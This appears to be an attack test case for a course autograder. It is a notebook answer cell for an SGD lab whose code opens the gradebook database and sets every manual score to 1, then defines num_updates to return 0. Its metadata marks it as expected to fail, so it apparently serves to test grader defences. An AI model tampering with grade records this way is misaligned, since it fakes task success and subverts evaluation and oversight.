# /// attack
# title = "Write points into the gradebook"
# lab = "01-sgd"
# class = "grader store"
# fails = ["num-updates-tests"]
# flags = []
# ///

# %% role="answer" id="num-updates"

import sqlite3
from pathlib import Path

for path in (Path("../../../gradebook.db"), Path("@COURSE@/gradebook.db")):
    try:
        if path.exists():
            database = sqlite3.connect(path, timeout=5)
            database.execute("UPDATE grade SET manual_score = 1")
            database.commit()
            database.close()
    except sqlite3.Error:
        pass


def num_updates(num_samples, batch_size, num_epochs):
    return 0
